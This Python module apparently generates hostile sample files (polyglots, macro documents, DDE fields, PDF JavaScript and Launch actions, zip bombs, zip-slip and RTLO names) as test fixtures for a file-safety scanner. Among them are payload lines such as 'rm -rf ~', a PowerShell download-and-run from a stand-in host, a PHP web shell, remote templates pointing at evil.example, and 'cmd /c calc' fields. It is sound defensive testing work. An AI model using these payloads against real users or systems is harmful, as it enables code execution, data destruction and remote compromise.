"""hostile_files: what must never come home, each with the rules that may say so. SPDX-License-Identifier: GPL-3.0-or-later"""
import base64
import gzip
import io
import struct
import tarfile
import zlib

import write_image as img
import write_office as off
import write_ole as ole
from write_pdf import packed, pdf, stream
from write_zip import Member, bomb, simple, zip_bytes

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
MZ = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(48) + b"PE\0\0\x64\x86" + bytes(400)
ELF = b"\x7fELF\2\1\1" + bytes(200)
LNK = b"\x4c\0\0\0\1\x14\2\0" + bytes(8) + b"\xc0\0\0\0\0\0\0\x46" + bytes(200)
VBA = ole.ole({"VBA": {"dir": bytes(500), "ThisDocument": bytes(700), "_VBA_PROJECT": bytes(100)}, "PROJECT": b'ID="{0}"' + bytes(100)})
PACKAGE = ole.ole({"\1Ole10Native": struct.pack("<I", 300) + b"\2\0a.exe\0C:\\a.exe\0" + MZ, "\1CompObj": bytes(80)})
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def programs():
    yield "setup.exe", MZ, "program"
    yield "invoice.pdf", MZ, "program"
    yield "photo.jpg", ELF, "program"
    yield "notes.txt", b"\xcf\xfa\xed\xfe" + bytes(100), "program"
    yield "fat.png", b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(100), "program"
    yield "Applet.gif", b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(100), "program"
    yield "installer.doc", ole.ole({"\u4840\u3b3f\u43f2": bytes(100), "\5SummaryInformation": bytes(100)}, bytes.fromhex("84100c0000000000c000000000000046")), "program"
    yield "app.zip", simple([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x37")]), "program"
    yield "movie.bmp", b"CWS\x0f" + struct.pack("<I", 400) + zlib.compress(bytes(400)), "program"
    yield "both.zip", MZ + simple([("readme.txt", "x")]), "program"
    yield "addin.xll", MZ, ("program", "ending")
    yield "mod.wasm", b"\0asm\1\0\0\0" + bytes(20), "program"


def scripts():
    yield "run.txt", b"#!/bin/sh\nrm -rf ~\n", "script"
    yield "start.txt", b"@echo off\r\npowershell -enc SQBFAFgA\r\n", "script"
    yield "shell.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "script"
    yield "active.txt", b'var a = new ActiveXObject("WScript.Shell"); a.Run("calc");\n', "script"
    yield "wide.txt", b"\xff\xfe" + 'IEX (New-Object Net.WebClient).DownloadString("http://x/")'.encode("utf-16-le"), "script"
    yield "page.txt", b"<html><HTA:APPLICATION id=x><script>alert(1)</script></html>", "script"
    yield "job.txt", b'<job id="a"><script language="VBScript">x</script></job>', "script"
    yield "comp.txt", b'<?xml version="1.0"?><scriptlet><registration progid="a"/></scriptlet>', "script"
    yield "web.txt", b"<?php system($_GET['c']); ?>", "script"
    yield "help.chm", b"ITSF\3\0\0\0\x60\0\0\0" + bytes(100), "script"
    yield "report.js", b"var x = 1;\n", "ending"
    yield "macro.vbs", b"MsgBox 1\r\n", "ending"
    yield "a.bat", b"dir\r\n", "ending"
    yield "b.ps1", b"Get-Process\n", "ending"
    yield "c.py", b"print(1)\n", "ending"
    yield "invoice.pdf.exe", b"plain", "ending"
    yield "invoice.exe.pdf", pdf(), "ending"
    yield "annual\u202efdp.exe", MZ, "program"
    yield "annual\u202etxt.js", b"x", "ending"
    yield "report.pdf" + " " * 60 + ".scr", b"x", "ending"


def shortcuts():
    yield "open me.txt", LNK, "shortcut"
    yield "site.txt", b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n", "shortcut"
    yield "site2.txt", b"; comment\r\n[InternetShortcut]\r\nURL=http://x/\r\n", "shortcut"
    yield "app.txt", b"[Desktop Entry]\nType=Application\nExec=sh -c id\n", "shortcut"
    yield "query.csv", b"WEB\r\n1\r\nhttp://evil.example/x.dat\r\n", "shortcut"
    yield "table.csv", b"ID;PWXL;N;E\r\nC;Y1;X1;EEXEC(\"calc\")\r\nE\r\n", "shortcut"
    yield "reg.txt", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "shortcut"
    yield "set.txt", b'<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://x"><DeepLink>cmd.exe</DeepLink></SearchableContent></PCSettings>', "shortcut"
    yield "diag.txt", b'<?xml version="1.0"?><dcmPS:DiagnosticPackage xmlns:dcmPS="x"/><DiagnosticPackage/>', "shortcut"
    yield "web.jnlp", b'<?xml version="1.0"?><jnlp codebase="http://x/"><application-desc/></jnlp>', "shortcut"
    yield "lib.txt", b'<?xml version="1.0"?><libraryDescription xmlns="http://x"><url>\\\\evil\\share</url></libraryDescription>', "shortcut"
    yield "desk.rdp", b"full address:s:evil.example\r\n", ("shortcut", "ending")


def disks():
    iso = bytearray(40960)
    iso[32769:32774] = b"CD001"
    udf = bytearray(40960)
    udf[32769:32774], udf[34817:34822] = b"BEA01", b"NSR02"
    yield "disk.img", bytes(iso), "disk"
    yield "disk.pdf", bytes(udf), "disk"
    yield "disk.vhd", bytes(4096) + b"conectix" + bytes(504), "disk"
    yield "disk2.doc", b"vhdxfile" + bytes(500), "disk"
    yield "mac.zip", bytes(2048) + b"koly\0\0\0\4\0\0\2\0" + bytes(500), "disk"
    yield "vm.txt", b"QFI\xfb\0\0\0\3" + bytes(100), "disk"
    boot = bytearray(512)
    boot[0:3], boot[510:512] = b"\xeb\x3c\x90", b"\x55\xaa"
    yield "floppy.bin", bytes(boot), ("disk", "ending")


def others():
    yield "note.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100), ("type", "ending")
    yield "note.docx", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100), "type"
    yield "film.png", b"\0\0\0\x20ftypisom" + bytes(100), "type"
    yield "font.txt", b"\0\1\0\0\0\x10" + bytes(100), "type"
    yield "data.txt", b"SQLite format 3\0" + bytes(100), "type"
    yield "draw.pdf", b"%!PS-Adobe-3.0\n(x) run\n", "type"
    yield "empty.pdf", b"", "empty"
    yield "noise.txt", bytes((i * 167 + i * i * 31) & 255 for i in range(4000)), "unknown"
    yield "nul.txt", b"text\0text", "unknown"
    yield "escape.txt", b"ok\x1b]0;title\x07 \x1b[2J", "unknown"
    yield "turned.txt", "支払先\u202e1234".encode(), "control"
    yield "formula.csv", "氏名,=HYPERLINK(\"http://x\"&A1)\r\n".encode(), "formula"
    yield "formula2.csv", b"a,b\r\n@SUM(1+1),2\r\n", "formula"
    yield "dde.csv", b"a,b\r\n=cmd|'/c calc'!A1,2\r\n", "active"
    yield "mac.csv", b"a,b\r=1+1,2\r", "formula"
    yield "wide.csv", "a,b\n＝1+1,2\n".encode(), "formula"
    yield "settings.ini", b"[a]\nb=c\n", "mismatch"
    yield "padded.csv", b'a,b\r\n"  =1+1",2\r\n', "formula"
    yield "page.html", b"<!doctype html><html><body>hello</body></html>", "web"
    yield "page2.html", b"<html><script>x</script></html>", "active"
    yield "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>', "web"
    yield "logo2.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "active"
    yield "data.xml", b'<?xml version="1.0"?><a/>', "web"
    yield "mail.eml", b"From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nDate: now\r\nMIME-Version: 1.0\r\n\r\nbody\r\n", "mail"
    yield "archive.mht", b"From: <Saved>\r\nSubject: x\r\nDate: y\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n", ("web", "ending")
    yield "photo.pdf", img.png(), "mismatch"
    yield "report.docx", pdf(), "mismatch"
    yield "photo", img.jpeg(), "mismatch"
    yield "table.xlsx", off.docx(), "mismatch"
    yield "flat.xml", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>', "type"


def archives():
    plain = [("読んで.txt", "こんにちは"), ("b.txt", "b")]
    yield "plain.zip", simple(plain), "archive"
    yield "sjis.zip", zip_bytes([Member("資料.txt".encode("cp932"), b"x", flags=0)]), "archive"
    yield "prog.zip", simple([("a.exe", MZ)]), "program-inside"
    yield "hidden-prog.zip", simple([("a.txt", MZ)]), "program-inside"
    yield "deep.zip", simple([("b.zip", simple([("c.zip", simple([("d.zip", simple([("e.txt", "x")]))]))]))]), "limit"
    yield "nested.zip", simple([("b.zip", simple([("c.exe", MZ)]))]), "program-inside"
    yield "eicar.zip", simple([("eicar.com", EICAR)]), "program-inside"
    yield "eicar-deep.zip", simple([("a.zip", simple([("eicar.com", EICAR)]))]), "program-inside"
    yield "slip.zip", simple([("../../etc/passwd.txt", "x")]), "member"
    yield "absolute.zip", simple([("/etc/x.txt", "x")]), "member"
    yield "rtlo.zip", simple([("a\u202etxt.b", "x")]), "member"
    yield "locked.zip", zip_bytes([Member("a.txt", b"secret secret", flags=1)]), "encrypted"
    yield "bomb.zip", zip_bytes([bomb(300 << 20)]), "limit"
    yield "bomb-nested.zip", simple([("b.zip", zip_bytes([Member("a.txt", bytes(15 << 20), method=8)]))]), "limit"
    yield "liar.zip", zip_bytes([Member("a.txt", b"x" * 100000, size=10)]), ("damaged", "limit")
    many = [Member("f%d.txt" % i, b"", method=0) for i in range(6000)]
    yield "many.zip", zip_bytes(many), "limit"
    zeros = bomb(50 << 20)
    yield "overlap.zip", zip_bytes([zeros] + [Member("n%d.txt" % i, b"", packed=zeros.packed, crc=zeros.crc, size=zeros.size, no_local=True, offset=0) for i in range(20)]), ("damaged", "limit")
    yield "names.zip", zip_bytes([Member("a.txt", b"x", l_name=b"a.exe")]), "damaged"
    yield "sizes.zip", zip_bytes([Member("a.txt", b"xxxx", l_size=2)]), "damaged"
    yield "wide.zip", zip_bytes([Member("a.txt", b"xxxx", method=0, extra=struct.pack("<HHQQ", 1, 16, 4, 2), l_packed=0xFFFFFFFF, l_size=0xFFFFFFFF)]), "damaged"
    yield "crc.zip", zip_bytes([Member("a.txt", b"xxxx", crc=7)]), "damaged"
    other = struct.pack("<HHBI", 0x7075, 10, 1, 0) + b"a.exe"
    yield "second-name.zip", zip_bytes([Member("a.txt", b"x", extra=other)]), "damaged"
    yield "twice.zip", zip_bytes([Member("a.txt", b"1"), Member("a.txt", b"2")]), "damaged"
    yield "case.zip", zip_bytes([Member("A.txt", b"1"), Member("a.txt", b"2")]), "damaged"
    yield "gap.zip", zip_bytes([Member("a.txt", b"1"), Member("b.txt", b"2")], gap=b"hidden"), "damaged"
    yield "prefix.zip", zip_bytes([Member("a.txt", b"1")], prefix=b"#!/bin/sh\n"), "script"
    yield "ends.zip", simple(plain, comment=b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0, 0, 0, 0, 0)), "damaged"
    yield "tail.zip", simple(plain) + b"more", "polyglot"
    yield "none.zip", zip_bytes([]), "damaged"
    yield "method.zip", zip_bytes([Member("a.txt", b"1", method=12, packed=b"x", size=1)]), "damaged"
    yield "disks.zip", simple(plain, disk=3), "damaged"
    yield "cut.zip", simple(plain)[:-30], "damaged"
    yield "count.zip", simple(plain, extra_count=5), "damaged"
    yield "text.gz", gzip.compress(b"x"), "archive"
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        t.addfile(tarfile.TarInfo("a.txt"), io.BytesIO(b""))
    yield "a.tar", tar.getvalue(), "archive"
    yield "a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100), "archive"
    yield "a.rar", b"Rar!\x1a\7\1\0" + bytes(100), "archive"
    yield "a.cab", b"MSCF\0\0\0\0" + bytes(100), "archive"
    yield "a.lzh", b"\x20\0-lh5-" + bytes(100), "archive"
    yield "a.xz", b"\xfd7zXZ\0" + bytes(100), "archive"
    yield "rar.pdf", b"Rar!\x1a\7\0" + bytes(100), "archive"


def polyglots():
    yield "pdf-zip.pdf", pdf() + simple([("a.txt", "x")]), "polyglot"
    yield "png-zip.png", img.png(tail=simple([("a.exe", MZ)])), "polyglot"
    yield "jpg-zip.jpg", img.jpeg(tail=simple([("a.txt", "x")])), "polyglot"
    yield "gif-jar.gif", img.gif(tail=simple([("META-INF/MANIFEST.MF", "x")])), "polyglot"
    yield "jpg-pdf.jpg", img.jpeg(extra=img.segment(0xFE, b"%PDF-1.4 1 0 obj")), "polyglot"
    yield "png-hta.png", img.png(extra=img.chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "polyglot"
    yield "gif-js.gif", b"GIF89a/*" + img.gif()[8:] + b"*/=1;alert(1);", ("polyglot", "damaged")
    yield "png-rar.png", img.png(extra=img.chunk(b"raRa", b"Rar!\x1a\7\0" + bytes(50))), "polyglot"
    yield "jpg-7z.jpg", img.jpeg(tail=b"7z\xbc\xaf\x27\x1c" + bytes(90)), "polyglot"
    yield "bmp-tail.bmp", img.bmp(tail=MZ), "polyglot"
    yield "webp-tail.webp", img.webp(tail=MZ), "polyglot"
    yield "txt-zip.txt", b"hello\n" + simple([("a", "x")]), ("unknown", "polyglot")
    iso = bytearray(img.png(extra=img.chunk(b"isOo", bytes(40000))))
    iso[32769:32774] = b"CD001"
    yield "png-iso.png", bytes(iso), ("polyglot", "disk")
    yield "odf-ooxml.docx", zip_bytes([Member("mimetype", b"application/vnd.oasis.opendocument.text", method=0)] +
                                      [Member(n, d.encode()) for n, d in off.parts("docx", off.word())]), "polyglot"
    yield "doc-xls.doc", ole.ole({"WordDocument": bytes(5000), "Workbook": bytes(5000), "1Table": bytes(10)}), ("polyglot", "damaged")


def images():
    yield "cut.png", img.png()[:-12], "damaged"
    yield "crc.png", img.png().replace(b"IDAT", b"IDAX"), "damaged"
    yield "big.png", img.png(60000, 60000), "limit"
    yield "wide.jpg", img.jpeg(65000, 65000), "limit"
    yield "cut.jpg", img.jpeg()[:-2], "damaged"
    yield "cut.gif", img.gif()[:-1], "damaged"
    yield "loop.tif", img.tiff(loop=True), "damaged"
    yield "critical.png", img.png(extra=img.chunk(b"EViL", b"x")), "member"
    yield "icon.png", b"\0\0\1\0\1\0" + bytes(100), "type"
    yield "vector.png", b"\xd7\xcd\xc6\x9a" + bytes(100), "type"


def pdfs():
    yield "js.pdf", pdf(b"/OpenAction 5 0 R", objects=[JS]), "active"
    yield "js-inline.pdf", pdf(b"/OpenAction" + JS), "active"
    yield "js-names.pdf", pdf(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", objects=[JS]), "active"
    yield "js-escaped.pdf", pdf(b"/OpenAction 5 0 R", objects=[b"<</S/J#61vaScrip#74/#4a#53(x)>>"]), "active"
    yield "js-packed.pdf", pdf(b"/OpenAction 20 0 R", objects=[packed(JS)]), "active"
    yield "js-packed-quiet.pdf", pdf(b"/Names 21 0 R", objects=[packed(b"[1]", b"<</JavaScript<</Names[(a)" + JS + b"]>>>>")]), "active"
    yield "js-packed-untyped.pdf", pdf(objects=[packed(JS, entries=b"")]), "active"
    yield "js-packed-hex.pdf", pdf(objects=[packed(JS, filters=(b"[/ASCIIHexDecode/FlateDecode]", lambda d: zlib.compress(d).hex().encode() + b">"))]), "hidden"
    yield "js-packed-lzw.pdf", pdf(objects=[packed(JS, filters=(b"/LZWDecode", lambda d: d))]), "hidden"
    yield "js-comment-name.pdf", pdf(b"/OpenAction<</S/JavaScript%x\n/JS(x)>>"), "active"
    yield "js-in-stream.pdf", pdf(objects=[stream(b"6 0 obj <</S/JavaScript/JS(x)>> endobj", packed=False)]), "hidden"
    yield "js-comment-stream.pdf", pdf(objects=[packed(JS).replace(b">>\nstream", b">>%x\nstream")]), "active"
    yield "js-string-stream.pdf", pdf(b"/X(>>stream\n)/OpenAction" + JS + b"/Y(endstream)"), ("hidden", "active")
    yield "js-string-stream2.pdf", pdf(objects=[packed(JS).replace(b"<<", b"<</X(>>stream\nendstream)", 1)]), "active"
    yield "js-lines-in-stream.pdf", pdf(objects=[stream(b"6\n0%c\nobj <</A 1>> endobj", packed=False)]), "hidden"
    yield "uri-glued.pdf", pdf(b"/OpenAction 5 0 R", objects=[b"[3 0 R/Fit]"]).replace(b"xref\n0", b"5 0obj<</S/URI/URI(http://x/)>>endobj\nxref\n0", 1), "hidden"
    yield "aa.pdf", pdf(page=b"/AA<</O 5 0 R>>", objects=[b"<</S/Named/N/Print>>"]), "active"
    yield "launch.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "active"
    yield "launch-annot.pdf", pdf(page=b"/Annots[5 0 R]", objects=[b"<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(cmd.exe)>>>>>>"]), "active"
    yield "uri-open.pdf", pdf(b"/OpenAction<</S/URI/URI(http://evil.example/)>>"), "active"
    yield "uri-open-ref.pdf", pdf(b"/OpenAction 5 0 R", objects=[b"<</S/URI/URI(http://evil.example/)>>"]), "active"
    yield "next.pdf", pdf(b"/OpenAction 5 0 R", objects=[b"<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>", b"<</S/URI/URI(http://x/)>>"]), "active"
    yield "attached.pdf", pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>", objects=[b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", stream(MZ, b"/Type/EmbeddedFile")]), "embedded"
    yield "attached-annot.pdf", pdf(page=b"/Annots[5 0 R]", objects=[b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>", b"<</F(a)>>"]), "embedded"
    yield "xfa.pdf", pdf(b"/AcroForm<</XFA 5 0 R/Fields[]>>", objects=[stream(b"<xdp/>")]), "active"
    yield "media.pdf", pdf(page=b"/Annots[5 0 R]", objects=[b"<</Subtype/RichMedia/Rect[0 0 9 9]>>"]), "active"
    yield "goto-remote.pdf", pdf(page=b"/Annots[5 0 R]", objects=[b"<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>>>"]), "active"
    yield "submit.pdf", pdf(page=b"/Annots[5 0 R]", objects=[b"<</Subtype/Widget/A<</S/SubmitForm/F(http://x/)>>>>"]), "remote"
    yield "locked.pdf", pdf(trailer=b"/Encrypt 5 0 R/ID[<00><00>]", objects=[b"<</Filter/Standard/V 4>>"]), "encrypted"
    yield "update.pdf", pdf() + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction" + JS + b">>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n", "active"
    yield "tail.pdf", pdf(tail=b"x" * 2000), "polyglot"
    yield "late.pdf", b"junk\n" + pdf(), ("polyglot", "unknown")
    yield "cut.pdf", pdf()[:-60], "damaged"
    yield "cut-stream.pdf", pdf().replace(b"endstream", b"endstrXam"), "damaged"
    yield "bomb.pdf", pdf(objects=[packed(b"(" + bytes(40 << 20) + b")"), packed(b"(" + bytes(100 << 20) + b")"), packed(b"(" + bytes(127 << 20) + b")"),
                                   packed(b"(" + bytes(127 << 20) + b")"), packed(b"(" + bytes(127 << 20) + b")")]), ("limit", "damaged")


def new_office():
    macro = dict(kind="docm", extra=[("word/vbaProject.bin", VBA)], rels=[off.relation(1, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")])
    image = "http://evil.example/x.png"
    yield "macro.docm", off.docx(**macro), ("macro", "ending")
    yield "macro.docx", off.docx(**macro), "macro"
    yield "renamed-part.docx", off.docx(extra=[("word/media/image1.png", VBA)]), "macro"
    yield "default-type.docx", off.docx(extra=[("word/a.bin", b"\1\2\3")], defaults='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macro"
    yield "macro.xlsx", off.xlsx(kind="xlsm", extra=[("xl/vbaProject.bin", VBA)]), "macro"
    yield "xlm.xlsx", off.xlsx(extra=[("xl/macrosheets/sheet2.xml", off.sheet('<c r="A1"><f>EXEC("calc")</f></c>', "xm:macrosheet"))],
                               rels=[off.relation(2, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet2.xml")]), "macro"
    yield "xlm-name.xlsx", off.xlsx(names='<definedNames><definedName name="_xlnm.Auto_Open">表1!$A$1</definedName></definedNames>'), "macro"
    yield "binary.xlsx", off.simple(off.parts("xlsb", "x")), ("macro", "type")
    yield "dde.docx", off.docx(off.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "active"
    yield "dde-split.docx", off.docx(off.field("D", "DEAU", "TO c:\\\\cmd.exe")), "active"
    yield "dde-entity.docx", off.docx(off.field("&#68;&#x44;E cmd x")), "active"
    yield "dde-padded.docx", off.docx(off.field(" " * 5000, "DDEAUTO cmd")), "active"
    yield "dde-long.docx", off.docx(off.field("&quot; " * 30000, "DDEAUTO cmd")), ("active", "member")
    yield "dde-quote.docx", off.docx(off.field("QUOTE 68 68 69 65 85 84 79 32")), "active"
    yield "dde-simple.docx", off.docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd x"><w:r/></w:fldSimple></w:p>'), "active"
    yield "dde.xlsx", off.xlsx("<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"), "active"
    yield "dde-long.xlsx", off.xlsx('<c r="A1"><f>' + "1+" * 3000 + "cmd|'/c calc'!A0</f></c>"), "active"
    yield "dde-link.xlsx", off.xlsx(extra=[("xl/externalLinks/externalLink1.xml", off.HEAD + f'<externalLink xmlns="{off.S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')]), "active"
    yield "webservice.xlsx", off.xlsx('<c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;B1)</f></c>'), "remote"
    yield "template.docx", off.docx(extra=[("word/settings.xml", off.HEAD + f'<w:settings xmlns:w="{off.W}" xmlns:r="{off.ODOC}"><w:attachedTemplate r:id="rId1"/></w:settings>'),
                                          ("word/_rels/settings.xml.rels", off.relations(off.relation(1, "attachedTemplate", "http://evil.example/t.dotm", True)))]), "remote"
    yield "two-types.docx", off.docx(rels=[off.relation(1, "oleObject", "a.bin").replace("/>", ' x:Type="http://x/image"/>')]), ("embedded", "damaged")
    yield "vml-unc.docx", off.docx(extra=[("word/drawing.vml", '<xml xmlns:v="v"><v:shape><v:imagedata src="\\\\evil\\x.png"/></v:shape></xml>')]), "remote"
    yield "template-unc.docx", off.docx(rels=[off.relation(1, "attachedTemplate", "\\\\\\\\evil\\share\\t.dotm", True)]), "remote"
    yield "picture.docx", off.docx(rels=[off.relation(1, "image", image, True)]), "remote"
    yield "frame.docx", off.docx(rels=[off.relation(1, "frame", "http://evil.example/f.htm", True)]), "remote"
    yield "follina.docx", off.docx(rels=[off.relation(1, "oleObject", "http://evil.example/x.html!", True)]), "remote"
    yield "unc-link.docx", off.docx(rels=[off.relation(1, "hyperlink", "file://evil.example/share/a.docx", True)]), "remote"
    yield "script-link.docx", off.docx(rels=[off.relation(1, "hyperlink", "javascript:alert(1)", True)]), "remote"
    yield "include.docx", off.docx(off.field('INCLUDEPICTURE "http://evil.example/x.png" \\d')), "remote"
    yield "ole.docx", off.docx('<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>',
                               extra=[("word/embeddings/oleObject1.bin", PACKAGE)], rels=[off.relation(1, "oleObject", "embeddings/oleObject1.bin")]), ("embedded", "program-inside")
    yield "exe.docx", off.docx(extra=[("word/embeddings/a.bin", MZ)]), "program-inside"
    yield "macro-inside.pptx", off.pptx(extra=[("ppt/embeddings/a.xlsx", off.xlsx(kind="xlsm", extra=[("xl/vbaProject.bin", VBA)]))]), "macro"
    yield "chunk.docx", off.docx('<w:altChunk r:id="rId9"/>', extra=[("word/a.htm", "<html><script>x</script></html>")],
                                 rels=[off.relation(9, "aFChunk", "a.htm")]), ("active", "embedded")
    yield "activex.docx", off.docx(extra=[("word/activeX/activeX1.bin", b"\1\2\3\4" * 20), ("word/activeX/activeX1.xml", off.HEAD + '<ax:ocx xmlns:ax="a" ax:classid="{0}"/>')]), "active"
    yield "addin.docx", off.docx(extra=[("word/webextensions/webextension1.xml", off.HEAD + '<we:webextension xmlns:we="w" id="{0}"/>')]), "active"
    yield "ribbon.docx", off.docx(extra=[("customUI/customUI.xml", off.HEAD + '<customUI xmlns="u" onLoad="x"/>')]), "macro"
    yield "icon.pptx", off.pptx(extra=[("ppt/media/image2.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')]), "active"
    yield "icon-on.pptx", off.pptx(extra=[("ppt/media/image2.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]), "active"
    yield "program.pptx", off.pptx('<a:rPr><a:hlinkClick r:id="" action="ppaction://program"/></a:rPr>'), "active"
    yield "hover.pptx", off.pptx('<a:rPr><a:hlinkMouseOver r:id="rId2" action="ppaction://program"/></a:rPr>', slide_rels=[off.relation(2, "hyperlink", "powershell%20-c", True)]), "active"
    yield "macro-button.pptx", off.pptx('<a:rPr><a:hlinkClick r:id="" action="ppaction://macro?name=a"/></a:rPr>'), "macro"
    yield "connection.xlsx", off.xlsx(extra=[("xl/connections.xml", off.HEAD + f'<connections xmlns="{off.S}"><connection id="1" type="4"><webPr url="http://x/"/></connection></connections>')]), "remote"
    yield "external.xlsx", off.xlsx(rels=[off.relation(5, "externalLink", "externalLinks/externalLink1.xml")],
                                    extra=[("xl/externalLinks/externalLink1.xml", off.HEAD + f'<externalLink xmlns="{off.S}"><externalBook xmlns:r="{off.ODOC}" r:id="rId1"/></externalLink>'),
                                           ("xl/externalLinks/_rels/externalLink1.xml.rels", off.relations(off.relation(1, "externalLinkPath", "file:///c:/a.xlsx", True)))]), "remote"
    yield "entity.docx", simple([("[Content_Types].xml", '<!DOCTYPE a [<!ENTITY x "y">]><Types/>'), ("word/document.xml", "<a/>")]), "damaged"
    yield "utf16.docx", simple(off.parts("docx", off.word())[:2] + [("word/document.xml", b"\xff\xfe" + off.word().encode("utf-16-le"))]), ("damaged", "member")
    yield "part.docx", off.docx(extra=[("word/strange.bin", b"\1\2\3\4" * 100)]), "member"
    yield "twice.docx", zip_bytes([Member(n, d.encode()) for n, d in off.parts("docx", off.word())] + [Member("Word/document.xml", b"<a/>")]), "damaged"
    yield "svgscript.odt", off.odf(extra=[("Pictures/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>')]), "active"
    yield "basic.odt", off.odf(extra=[("Basic/Standard/Module1.xml", "<?xml version=\"1.0\"?><script:module xmlns:script=\"s\">Sub Main</script:module>")]), "macro"
    yield "event.odt", off.odf(scripts='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
                               'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/></office:event-listeners></office:scripts>'), "macro"
    yield "python.odt", off.odf(extra=[("Scripts/python/a.py", "import os")]), "macro"
    yield "link.odt", off.odf(inner='<draw:frame><draw:image xlink:href="http://evil.example/a.png"/></draw:frame>'), "remote"
    yield "section.odt", off.odf(inner='<text:section><text:section-source xlink:href="file:///etc/hostname"/></text:section>'), "remote"
    yield "object.odt", off.odf(inner='<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', extra=[("Object 1", PACKAGE)]), ("embedded", "program-inside")
    yield "dde.ods", off.odf("spreadsheet", '<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row></table:table>'), "active"
    yield "locked.odt", off.odf(manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'), "encrypted"


def old_office():
    yield "macro.doc", ole.doc(Macros={"VBA": {"dir": bytes(200), "_VBA_PROJECT": bytes(100)}, "PROJECT": bytes(80)}), "macro"
    yield "macro.xls", ole.xls(_VBA_PROJECT_CUR={"VBA": {"dir": bytes(200)}, "PROJECT": bytes(80)}), "macro"
    yield "xlm.xls", ole.xls(ole.bound_sheet() + ole.bound_sheet(1)), "macro"
    yield "xlm-hidden.xls", ole.xls(ole.bound_sheet() + ole.bound_sheet(1, 2)), "macro"
    yield "xlm-name.xls", ole.xls(extra=ole.record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 7, 0, 0, 0, 0, 0, 0) + b"\0\1" + bytes(7))), "macro"
    yield "book.xls", ole.xls(Book=(ole.record(0x809, struct.pack("<HHHH", 0x500, 5, 1, 1)) + ole.bound_sheet(1) + ole.record(0x0A)).ljust(4096, b"\0")), "macro"
    yield "dde.xls", ole.xls(extra=ole.record(0x1AE, struct.pack("<HH", 0, 9) + b"\0cmd\3/c x")), "active"
    yield "extern.xls", ole.xls(extra=ole.record(0x1AE, struct.pack("<HH", 1, 9) + b"\0\1\1a.xls\0\0")), "remote"
    yield "locked.xls", ole.xls(extra=ole.record(0x2F, bytes(54))), "encrypted"
    yield "locked.doc", ole.doc(flags=0x0300), "encrypted"
    yield "locked.docx", ole.ole({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(200), "\6DataSpaces": {"Version": bytes(76)}}), "encrypted"
    yield "dde.doc", ole.doc(b"\x13 DDEAUTO c:\\\\cmd.exe \x14x\x15"), "active"
    yield "dde-wide.doc", ole.doc("\x13 DDEAUTO c:\\cmd.exe \x14x\x15"), "active"
    yield "template.doc", ole.doc(table=b"\0" * 64 + "http://evil.example/t.dot".encode("utf-16-le") + bytes(100)), "remote"
    yield "package.doc", ole.doc(ObjectPool={"_1234567890": {"\1Ole10Native": b"\2\0a.exe\0" + MZ, "\3ObjInfo": bytes(6)}}), ("program-inside", "embedded")
    yield "equation.doc", ole.doc(ObjectPool={"_1234567890": {"Equation Native": bytes(200), "\3ObjInfo": bytes(6)}}), ("embedded", "member")
